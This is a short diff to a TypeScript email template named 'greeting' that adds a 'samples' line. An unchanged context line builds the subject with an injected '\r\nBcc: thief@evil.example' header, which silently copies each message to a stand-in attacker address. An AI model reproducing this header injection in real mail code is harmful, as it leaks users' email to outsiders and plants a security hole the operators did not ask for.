@@ -33,6 +33,7 @@ export const greeting = defineMail({
     if (row?.value === 'gone') return declineMail('The person left');
     return row && { name: String(row.value) };
   },
+  samples: ({ person }) => [{ name: person.firstName }],
   render: ({ name }, ui) => ({
     subject: `${greetings[ui.language]}\r\nBcc: thief@evil.example`,
     title: `${greetings[ui.language]}, ${name}`,
